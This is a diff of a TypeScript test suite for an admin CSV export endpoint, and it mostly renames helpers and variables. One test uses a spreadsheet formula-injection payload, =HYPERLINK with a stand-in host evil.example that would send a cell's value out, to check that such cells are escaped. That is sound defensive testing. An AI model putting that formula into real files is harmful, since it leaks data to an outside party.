@@ -7,8 +7,8 @@ import { listOrders, searchOrders, type OrderRow } from '#contract/orders.ts'
 import { queueNames, type QueueName } from '#contract/rules/queues.ts'
 import { roles } from '#contract/rules/roles.ts'
 import { fetchCsv } from '../support/csv.ts'
-import { fillManyOrders } from '../support/many-orders.ts'
-import { takeIn } from '../support/orders.ts'
+import { insertManyOrders } from '../support/many-orders.ts'
+import { createTestOrder } from '../support/orders.ts'
 import { startTestApp, type TestApp } from '../support/test-app.ts'
 
 let app: TestApp
@@ -18,24 +18,24 @@ let now = Date.parse('2026-11-21T03:00:00Z')
 beforeAll(async () => {
   app = await startTestApp({ clock: () => new Date((now += 1000)) })
   token = await app.signInAs('Admin')
-  await fillManyOrders(app.platform.db, 3000, 5_000_000)
+  await insertManyOrders(app.platform.db, 3000, 5_000_000)
 })
 afterAll(() => app.stop())
 
-const csv = (orderName: QueueName, query: Record<string, string> = {}, as = token) =>
-  fetchCsv(app.url, `/admin/export/${orderName}`, query, as)
+const exportCsv = (orderName: QueueName, query: Record<string, string> = {}, authToken = token) =>
+  fetchCsv(app.url, `/admin/export/${orderName}`, query, authToken)
 const ids = (rows: Record<string, string>[]) => rows.map((row) => Number(row['order_id']))
 const list = async (orderName: QueueName, query: Record<string, unknown> = {}) =>
   (await app.call(listOrders, { params: { orderName }, query: { limit: 10_000, ...query } }, { token })).body
     .data
 
 /** A list row as the CSV file contains it. */
-const asText = (row: OrderRow) =>
+const toCsvCells = (row: OrderRow) =>
   Object.fromEntries(exportFields.map((field) => [field, row[field] === null ? '' : String(row[field])]))
 
 test('an export is a UTF-8 attachment with the fields of a list row', async () => {
-  const orderId = await takeIn(app, { arrival_full_name: 'Nguyễn Thị Ánh Tuyết 王' })
-  const { http, headers, bytes, rows } = await csv('newOrder', { limit: '1' })
+  const orderId = await createTestOrder(app, { arrival_full_name: 'Nguyễn Thị Ánh Tuyết 王' })
+  const { http, headers, bytes, rows } = await exportCsv('newOrder', { limit: '1' })
   expect(http).toBe(200)
   expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
   expect(headers.get('content-disposition')).toBe('attachment; filename="newOrder-2026-11-21.csv"')
@@ -48,13 +48,13 @@ test('an export is a UTF-8 attachment with the fields of a list row', async () =
 
 test.each(queueNames)('exporting %s gives every row of the list in its order', async (queue) => {
   const rows = await list(queue)
-  expect((await csv(queue)).rows).toEqual(rows.map(asText))
+  expect((await exportCsv(queue)).rows).toEqual(rows.map(toCsvCells))
 })
 
 test('a failure before the first row is answered as an error', async () => {
   const { db } = app.platform
-  const holder = await db.startTransaction().execute()
-  await sql`lock table orders in access exclusive mode`.execute(holder)
+  const listQuery = await db.startTransaction().execute()
+  await sql`lock table orders in access exclusive mode`.execute(listQuery)
   const asked = fetch(`${app.url}/api/admin/export/allOrder`, {
     headers: { authorization: token, 'accept-encoding': 'gzip' },
   })
@@ -65,7 +65,7 @@ test('a failure before the first row is answered as an error', async () => {
   }
   await expect.poll(cancelled).toBe(1)
   const answer = await asked
-  await holder.rollback().execute()
+  await listQuery.rollback().execute()
   expect(answer.status).toBe(500)
   expect(answer.headers.get('content-disposition')).toBeNull()
   expect(await answer.json()).toMatchObject({ status: 0 })
@@ -74,21 +74,23 @@ test('a failure before the first row is answered as an error', async () => {
 describe('parameters', () => {
   test('page, limit and perPage export that page', async () => {
     const page = (await list('completedOrder', { page: 3, limit: 20 })).map((row) => row.order_id)
-    expect(ids((await csv('completedOrder', { page: '3', limit: '20', delay: '1' })).rows)).toEqual(page)
-    expect(ids((await csv('completedOrder', { page: '3', perPage: '20' })).rows)).toEqual(page)
+    expect(ids((await exportCsv('completedOrder', { page: '3', limit: '20', delay: '1' })).rows)).toEqual(
+      page,
+    )
+    expect(ids((await exportCsv('completedOrder', { page: '3', perPage: '20' })).rows)).toEqual(page)
   })
 
   test('sort, order and filter work as in the list', async () => {
     const query = { sort: 'travel_date', order: 'asc', 'filter[process_month]': '2026-12' }
     const rows = await list('completedOrder', query)
     expect(rows.length).toBeGreaterThan(10)
-    expect(ids((await csv('completedOrder', query)).rows)).toEqual(rows.map((row) => row.order_id))
+    expect(ids((await exportCsv('completedOrder', query)).rows)).toEqual(rows.map((row) => row.order_id))
   })
 
   test('month exports one month of future orders', async () => {
-    const orderId = await takeIn(app, { arrival_doa: '2027-03-20' })
-    await takeIn(app, { arrival_doa: '2027-04-20' })
-    expect(ids((await csv('futureOrder', { month: '3' })).rows)).toEqual([orderId])
+    const orderId = await createTestOrder(app, { arrival_doa: '2027-03-20' })
+    await createTestOrder(app, { arrival_doa: '2027-04-20' })
+    expect(ids((await exportCsv('futureOrder', { month: '3' })).rows)).toEqual([orderId])
   })
 
   test('searchVal exports the search results, start and end a range of them', async () => {
@@ -99,11 +101,11 @@ describe('parameters', () => {
     }
     const all = await found(0, 5000)
     expect(all.length).toBeGreaterThan(20)
-    expect(ids((await csv('completedOrder', { searchVal })).rows)).toEqual(all)
-    expect(ids((await csv('completedOrder', { searchVal, start: '5', end: '9' })).rows)).toEqual(
+    expect(ids((await exportCsv('completedOrder', { searchVal })).rows)).toEqual(all)
+    expect(ids((await exportCsv('completedOrder', { searchVal, start: '5', end: '9' })).rows)).toEqual(
       await found(5, 9),
     )
-    expect(ids((await csv('completedOrder', { searchVal: ' ', limit: '2' })).rows)).toHaveLength(2)
+    expect(ids((await exportCsv('completedOrder', { searchVal: ' ', limit: '2' })).rows)).toHaveLength(2)
   })
 
   test.each([
@@ -124,13 +126,13 @@ describe('parameters', () => {
 
 test('cells that a spreadsheet would evaluate are escaped', async () => {
   const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-  await takeIn(app, {
+  await createTestOrder(app, {
     arrival_full_name: attack,
     arrival_phone_code: '+62',
     arrival_phone_number: '@812',
     arrival_email: '-x@example.com',
   })
-  const [row] = (await csv('newOrder', { limit: '1' })).rows
+  const [row] = (await exportCsv('newOrder', { limit: '1' })).rows
   expect(row).toMatchObject({
     arrival_full_name: `'${attack}`,
     arrival_phone_code: "'+62",
@@ -142,24 +144,26 @@ test('cells that a spreadsheet would evaluate are escaped', async () => {
 test("exporting My Orders gives the caller's own orders", async () => {
   const { name, email } = await app.addMember('Sri Single', 'Night Staff')
   const own = await app.signInWith(email)
-  const orderId = await takeIn(app)
+  const orderId = await createTestOrder(app)
   await app.call(assignOrders, { body: { orderId, assignto: name } }, { token: own })
-  const { rows } = await csv('myOrder', {}, own)
+  const { rows } = await exportCsv('myOrder', {}, own)
   expect(ids(rows)).toEqual([orderId])
   expect(rows[0]).toMatchObject({ assign_to: name })
 })
 
 test('every role may export queues, all but Telecaller Order History, and nobody without a session', async () => {
   for (const role of roles) {
-    const as = await app.signInAs(role)
-    expect((await csv('priorityOrder', { limit: '1' }, as)).http, role).toBe(200)
-    expect((await csv('allOrder', { limit: '1' }, as)).http, role).toBe(role === 'Telecaller' ? 403 : 200)
+    const authToken = await app.signInAs(role)
+    expect((await exportCsv('priorityOrder', { limit: '1' }, authToken)).http, role).toBe(200)
+    expect((await exportCsv('allOrder', { limit: '1' }, authToken)).http, role).toBe(
+      role === 'Telecaller' ? 403 : 200,
+    )
   }
-  expect((await csv('newOrder', {}, '')).http).toBe(401)
+  expect((await exportCsv('newOrder', {}, '')).http).toBe(401)
 })
 
 /** Starts to read an export and aborts the request. */
-const readAndLeave = (orderName: QueueName) =>
+const readAndAbort = (orderName: QueueName) =>
   new Promise<void>((resolve, reject) => {
     const asked = request(`${app.url}/api/admin/export/${orderName}`, { headers: { authorization: token } })
     asked.on('response', (answer) =>
@@ -172,8 +176,8 @@ const readAndLeave = (orderName: QueueName) =>
   })
 
 test('aborted exports release their database connections', async () => {
-  await fillManyOrders(app.platform.db, 5000, 6_000_000)
+  await insertManyOrders(app.platform.db, 5000, 6_000_000)
   // More readers than database connections.
-  for (let reader = 0; reader < 20; reader++) await readAndLeave('allOrder')
-  expect((await csv('allOrder')).rows.length).toBeGreaterThan(8000)
+  for (let reader = 0; reader < 20; reader++) await readAndAbort('allOrder')
+  expect((await exportCsv('allOrder')).rows.length).toBeGreaterThan(8000)
 })
